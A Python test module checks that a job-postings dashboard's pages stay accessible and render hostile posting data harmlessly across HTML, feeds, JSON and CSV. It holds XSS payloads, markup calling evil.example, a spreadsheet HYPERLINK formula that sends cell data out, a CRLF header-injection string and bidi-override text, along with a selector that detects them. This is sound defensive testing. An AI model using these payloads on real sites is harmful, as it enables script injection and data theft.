"""What holds for every page of the route table in a browser: everybody can use it, and nothing in it does harm."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import timedelta
from io import StringIO
from typing import TYPE_CHECKING
from urllib.parse import quote

import feedparser
import pytest
from fastapi.routing import APIRoute
from lxml import etree

from delivery import outlets as kinds
from postings.normalise.descriptions import read_description
from postings.posting import Identifier, Location, Organization, Salary
from postings.visits import Absence
from storage import access, events, outlets, searches, visits
from storage.access import Scope
from tests.dashboard.browser import (
    DESK,
    PHONE,
    Scheme,
    assert_accessible,
    looking,
    tab,
)
from tests.dashboard.conftest import Board
from tests.dashboard.pages.test_inspect import Looked, app, told
from tests.dashboard.pages.test_outlets import failing
from tests.dashboard.pages.test_overview import shrunken
from tests.dashboard.pages.test_postings import HOSTILE
from tests.dashboard.web import Running, browsing
from tests.storage.watching import Watch, a_job

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

#: names of the routes that answer a GET with something else than a page
_NO_PAGES = {
    "live", "ready", "metrics", "asset", "event_lines", "raw_posting", "find_visit",
    "feed_of_all", "feed_of_site", "feed_of_search", "job_xml", "list_of_feeds",
}  # fmt: skip

#: both widths and both colour schemes are looked at
_LOOKS = [(PHONE, "dark"), (DESK, "light")]


@dataclass(frozen=True, slots=True)
class Shown:
    """What there is to look at: an address a page, by the name of its route."""

    posting: str
    site: str
    visit: str
    search: str
    outlet: str
    token: str

    def addresses(self) -> dict[str, str]:
        """Where each page is shown with something on it."""
        site, search, outlet = (quote(name, safe="") for name in (self.site, self.search, self.outlet))
        return {
            "overview": "/",
            "first_run": "/welcome",
            "settings": "/settings",
            "event_page": "/events",
            "posting_page": f"/postings/{self.posting}",
            "posting_pages": "/postings?q=is%3Aopen",
            "visit_page": f"/sites/{site}/visits/{self.visit}",
            "site_page": f"/sites/{site}?figures=true",
            "site_pages": "/sites",
            "inspect_page": "/inspect?url=acme.example",
            "search_pages": "/searches?q=title%3Acook",
            "search_page": f"/searches/{search}",
            "outlet_pages": "/outlets",
            "outlet_page": f"/outlets/{outlet}",
            "ask_to_log_in": "/login",
            "ask_to_unsubscribe": f"/u/{self.token}",
        }


def pages(board: Board) -> set[str]:
    """Names of all routes that show a page."""
    found: set[str] = set()
    for route in board.app().routes:
        assert isinstance(route, APIRoute)
        data = route.path.startswith("/api/") or route.path.endswith((".json", ".csv"))
        if "GET" in (route.methods or ()) and not data and route.name not in _NO_PAGES:
            found.add(route.name)
    return found


def filled(board: Board) -> Shown:
    """Something on every page: what goes well, what fails, and what needs a person."""
    outlet = failing(board)
    watch = Watch(board.engine, now=board.now, name="gamma", host="gamma.example")
    watch.pages = {"/jobs/1": a_job("Cook", salary=Salary(currency="EUR", min=60_000, unit="YEAR"))}
    watch.visit()
    watch.pages["/jobs/1"] = replace(watch.pages["/jobs/1"], title="Head Cook")
    watch.later(hours=6).visit()
    held = shrunken(board, name="beta")
    searches.add(board.engine, name="cooks", query="title:cook location:berlin", grammar=1, now=board.now)
    kinds.add(
        board.engine, name="me", address="mailto:me@example.org", options={"when": "daily 08:00"}, now=board.now,
        search="cooks",
    )  # fmt: skip
    access.create_token(board.engine, "ci", Scope.READ, board.now)
    return Shown(
        posting=watch.events()[-1].posting_id,
        site="beta",
        visit=visits.recent(board.engine, held.site.id, 1)[0].id,
        search="cooks",
        outlet=outlet.name,
        token=outlets.find(board.engine, "me").token,
    )


def test_no_page_is_forgotten_here(board: Board) -> None:
    assert pages(board) == set(Shown("p", "s", "v", "q", "o", "t").addresses())


@pytest.mark.slow
@pytest.mark.parametrize(("width", "scheme"), _LOOKS)
def test_every_page_is_accessible_and_fits(chromium: Browser, board: Board, width: int, scheme: Scheme) -> None:
    there = filled(board).addresses()
    with looking(chromium, app(board, Looked(told("hollow.html"))), width=width, scheme=scheme) as page:
        for name, address in there.items():
            answer = page.goto(address)
            assert answer is not None
            assert answer.ok, name
            unfolded(page)
            assert_accessible(page)


@pytest.mark.parametrize(("width", "scheme"), _LOOKS)
def test_pages_with_nothing_on_them_and_of_errors_are_accessible(
    chromium: Browser, board: Board, width: int, scheme: Scheme
) -> None:
    nothing = Shown("p_1", "none", "v_1", "none", "none", "none").addresses()
    with looking(chromium, board.app(), width=width, scheme=scheme, complaints=False) as page:
        seen: set[tuple[int, str]] = set()
        for address in (*nothing.values(), "/postings?q=title%3A", "/inspect?url=file%3A%2F%2F%2Fetc"):
            answer = page.goto(address.replace("?figures=true", ""))
            assert answer is not None
            # what is not there looks the same wherever it is not
            look = (answer.status, page.locator("h1").inner_text() if answer.status < 400 else "")
            if look not in seen or "?" in address:
                assert_accessible(page)
            seen.add(look)
        assert {status for status, _title in seen} == {200, 404, 422}


def unfolded(page: Page) -> None:
    """Opens everything that is folded: what is hidden is not looked at."""
    page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")


# -- hostile postings

#: what a page may say anywhere
_WORDS = (
    *(text for text in HOSTILE if len(text) < 1000),
    "<b onmouseover=alert(1)>",
    "javascript:alert(1)",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "\u202eevil\u2066\u200b\ufeff",
    "%0d%0aSet-Cookie: x=1",
)
_MARKUP = (
    "<h1 id=main>{0}</h1><p style='position:fixed'>{0}<a href='javascript:alert(1)'>x</a><a href='//evil.example/'>y</a>"
    "<img src='https://evil.example/x.png' onerror=alert(1)><svg><script>alert(1)</script></svg>"
    "<form action='https://evil.example'><input name=q></form><iframe src='https://evil.example'></iframe>"
    "<link rel=stylesheet href='https://evil.example/x.css'><meta http-equiv=refresh content='0;url=//evil.example'></p>"
)


#: the text of a page but for the description, which may be long and hold what it likes
_TEXT = (
    "[...document.querySelector('main').children].filter(part => part.getAttribute('aria-labelledby') !== 'description')"
    ".map(part => part.innerText).join()"
)


def poisoned(board: Board, *, longest: int) -> Shown:
    """A site all of whose words are hostile, up to so many characters, and names and errors that are."""
    watch = Watch(board.engine, now=board.now)
    said = [*_WORDS, "a" * longest]
    for number, text in enumerate(said):
        description = read_description(_MARKUP.format(text[:50_000]))
        watch.pages[f"/jobs/{number}"] = a_job(
            text,
            organization=Organization(name=text, url="javascript:alert(1)"),
            locations=(Location(locality=text, country="DE"),),
            identifier=Identifier(value=text[:200], name=text),
            url="javascript:alert(1)",
            description_text=description.text,
            description_html=description.html,
        )
    watch.visit()
    for number, path in enumerate(list(watch.pages)):
        watch.pages[path] = replace(watch.pages[path], title=f"{said[number - 1]} {number}")
    gone = "/jobs/0"
    del watch.pages[gone]
    visit = watch.later(hours=6).visit(looks={gone: Absence.GONE}, cut_short=_WORDS[1])
    board.now = watch.now + timedelta(hours=1)
    name = '"><svg onload=alert(1)> / ?#'
    searches.add(board.engine, name=name, query='title:"<script>" OR title:a', grammar=1, now=board.now)
    outlet = kinds.add(
        board.engine, name=name, address="https://hooks.example/in", options={}, now=board.now, search=name
    )
    outlets.note_trouble(board.engine, outlet.id, " ".join(_WORDS[:5]))
    return Shown(
        posting=watch.events()[-1].posting_id,
        site="acme",
        visit=visit.id,
        search=name,
        outlet=name,
        token=outlets.find(board.engine, name).token,
    )


def test_hostile_postings_do_no_harm_on_any_page(chromium: Browser, board: Board) -> None:
    there = poisoned(board, longest=1_000_000)
    changed = {event.posting_id for event in events.after(board.engine, 0, 1000)}
    walked = [*there.addresses().values(), *(f"/postings/{id_}" for id_ in sorted(changed))]
    with Running(app(board, Looked(told("hollow.html")))) as running:
        home = f"http://127.0.0.1:{running.port}"
        with tab(chromium, home, width=PHONE) as page:
            for address in walked:
                answer = page.goto(address)
                assert answer is not None
                assert answer.ok, address
                assert list(harm(page)) == [], address
                assert page.evaluate(f"({_TEXT}).length") < 100_000, address


def harm(page: Page) -> Iterator[str]:
    """What a hostile page has achieved."""
    wrong = page.locator(
        "img, iframe, object, embed, base, main script, main style, main link, main meta, [style], [onload], [onerror],"
        " [onmouseover], a[href^='javascript:' i], a[href^='data:' i], a[href*='evil.example']:not([rel~=noopener]),"
        " form[action*='evil.example'], [aria-labelledby=description] .prose :is(svg, form, input, [id])"
    )
    yield from (str(one) for one in wrong.evaluate_all("all => all.map(one => one.outerHTML.slice(0, 200))"))
    if page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth"):
        yield "it is wider than the window"
    if page.evaluate(f"/[\\u202a-\\u202e\\u2066-\\u2069\\u001b]/.test({_TEXT})"):
        yield "it holds signs that turn texts around"


def test_hostile_postings_do_no_harm_in_other_forms_either(board: Board) -> None:
    there = poisoned(board, longest=10_000)
    search = quote(there.search, safe="")
    with browsing(app(board, Looked(told("hollow.html")))) as web:
        for address in (
            "/feeds/all.{}?baseline=true",
            "/feeds/sites/acme.{}?baseline=true",
            f"/feeds/searches/{search}.{{}}",
        ):
            for form in ("rss", "atom"):
                answer = web.get(address.format(form))
                assert answer.status_code == 200, address
                etree.fromstring(answer.content)
                assert "javascript:alert(1)</link>" not in answer.text
                assert "\u202e" not in "".join(one.title for one in feedparser.parse(answer.content).entries)
            assert web.get(address.format("json")).json()["items"] is not None
        for name, address in there.addresses().items():
            path, _, query = address.partition("?")
            if not name.startswith("ask_"):
                made = web.get(f"{'/overview' if path == '/' else path}.json?{query}")
                assert made.headers["content-type"] == "application/json", address
                made.json()
        for path in ("/postings.csv?q=(is:open OR is:closed)", "/sites.csv"):
            rows = list(csv.reader(StringIO(web.get(path).text)))
            assert len({len(row) for row in rows}) == 1
            assert not [cell for row in rows[1:] for cell in row if cell.startswith(tuple("=+-@\t\r"))]
